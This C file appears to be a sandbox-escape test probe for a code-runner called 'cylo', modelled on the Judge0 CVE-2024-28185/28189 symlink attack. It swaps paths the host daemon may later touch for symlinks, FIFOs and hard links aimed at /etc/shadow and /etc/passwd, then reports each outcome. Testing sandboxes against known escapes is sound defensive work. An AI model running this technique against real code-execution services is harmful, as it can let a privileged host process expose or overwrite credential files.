/* F07 (Judge0 CVE-2024-28185/28189 pattern): replace every path a daemon
 * might touch after the run with symlinks, hard links and FIFOs aimed at
 * the host canaries named on stdin: the program itself (/work/.cylo-exe),
 * the source, cylo's state names (.cylo/claims/...), result names.
 * Prints "WHAT: OUTCOME" lines. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static void say(const char *what, long r)
{
	printf("%s: %s\n", what, r < 0 ? strerrorname_np(errno) : "OK");
}

/* Replaces @path by a symlink to @target via rename (atomic, like a race). */
static void swap_link(const char *path, const char *target)
{
	char tmp[512], what[600];

	snprintf(tmp, sizeof(tmp), "%s.swp", path);
	unlink(tmp);
	snprintf(what, sizeof(what), "swap %s", path);
	if (symlink(target, tmp) < 0)
		say(what, -1);
	else
		say(what, rename(tmp, path));
}

int main(void)
{
	static const char *const names[] = {
		"/work/.cylo-exe", "/work/f07.c", "/work/run.sh", "/work/meta",
		"/work/.cylo/claims/f07.c", "/work/f07.c.result.json",
		"/work/f07.c.stdout", "/work/stdin", "/tmp/.cylo-exe", NULL
	};
	char target[4096] = "/etc/shadow";
	char what[600];

	if (scanf("%4095s", target) != 1)
		strcpy(target, "/etc/shadow");
	say("mkdir .cylo", mkdir("/work/.cylo", 0777));
	say("mkdir .cylo/claims", mkdir("/work/.cylo/claims", 0777));
	for (int i = 0; names[i]; i++)
		swap_link(names[i], target);
	say("mkfifo .cylo/result", mkfifo("/work/.cylo/result", 0666));
	say("mkfifo .cylo/claims/x", mkfifo("/work/.cylo/claims/x", 0666));
	snprintf(what, sizeof(what), "link %s", target);
	say(what, link(target, "/work/hard"));
	say("link /etc/passwd", link("/etc/passwd", "/work/hard2"));
	say("chmod 777 /work", chmod("/work", 0777));
	/* The swapped program keeps running: its inode is still mapped. */
	printf("readlink exe: %s\n", realpath("/proc/self/exe", what) ? what : "?");
	printf("marker: F07-RAN\n");
	return 0;
}
